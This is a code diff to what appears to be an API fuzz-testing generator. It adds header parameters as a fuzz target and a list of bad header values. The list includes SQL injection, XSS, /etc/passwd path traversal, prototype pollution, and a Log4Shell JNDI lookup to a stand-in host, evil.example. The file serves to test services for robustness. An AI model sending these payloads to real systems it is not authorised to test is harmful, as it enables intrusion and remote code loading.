@@ -39,6 +39,22 @@ export interface OpenApiDoc {
 }
 
 const MB = 1024 * 1024
+
+/** Wrong values a header can carry at all (HTTP allows no control characters in one). */
+const BAD_HEADER_VALUES: (() => string)[] = [
+  () => '',
+  () => ' ',
+  () => 'has space',
+  () => "' OR '1'='1' --",
+  () => '<script>alert(1)</script>',
+  () => '../../../../etc/passwd',
+  () => '${jndi:ldap://evil.example/a}',
+  () => '__proto__; drop',
+  () => 'a, b',
+  () => 'x'.repeat(101),
+  () => 'x'.repeat(8000),
+  () => '\u00e9t\u00e9',
+]
 const nest = (depth: number) => '['.repeat(depth) + ']'.repeat(depth)
 
 /** Values that are wrong somewhere: texts, numbers, types, structures. */
@@ -214,14 +230,16 @@ export function* attackRequests(doc: OpenApiDoc, count: number, seed: number): G
     const params = route.op.parameters ?? []
     const pathParams = params.filter((p) => p.in === 'path')
     const queryParams = params.filter((p) => p.in === 'query')
+    const headerParams = params.filter((p) => p.in === 'header')
     const bodySchema = route.op.requestBody?.content?.['application/json']?.schema
     const hasBody = route.method !== 'GET' && route.method !== 'DELETE'
     const goodBody = hasBody ? plausible(bodySchema) : undefined
     // which part is made bad this time
-    const parts = ['query', 'path', 'body', 'rawBody'].filter(
+    const parts = ['query', 'path', 'header', 'body', 'rawBody'].filter(
       (p) =>
         (p === 'query' && queryParams.length) ||
         (p === 'path' && pathParams.length) ||
+        (p === 'header' && headerParams.length) ||
         ((p === 'body' || p === 'rawBody') && hasBody),
     )
     const part = parts.length ? pick(parts) : 'query'
@@ -232,6 +250,7 @@ export function* attackRequests(doc: OpenApiDoc, count: number, seed: number): G
     let body: string | undefined = goodBody === undefined ? undefined : JSON.stringify(goodBody)
     let type = 'application/json'
     let what = ''
+    const headers: Record<string, string> = {}
 
     if (part === 'path') {
       const p = pick(pathParams)
@@ -247,6 +266,10 @@ export function* attackRequests(doc: OpenApiDoc, count: number, seed: number): G
           : pick(['__proto__', 'constructor', 'token', 'cartId', 'x'])
       query.set(name, qsValue(bad).slice(0, 20_000))
       what = `query ${name}=${qsValue(bad).slice(0, 40)}`
+    } else if (part === 'header') {
+      const name = pick(headerParams).name
+      headers[name] = pick(BAD_HEADER_VALUES)()
+      what = `header ${name}=${headers[name].slice(0, 40)}`
     } else if (part === 'body') {
       const spots = leaves(goodBody)
       const spot = pick(spots)
@@ -263,7 +286,7 @@ export function* attackRequests(doc: OpenApiDoc, count: number, seed: number): G
     yield {
       method: route.method,
       path: qs ? `${path}?${qs}` : path,
-      headers: body === undefined ? {} : { 'content-type': type },
+      headers: body === undefined ? headers : { ...headers, 'content-type': type },
       body,
       what: `${route.method} ${route.template}: ${what}`,
     }
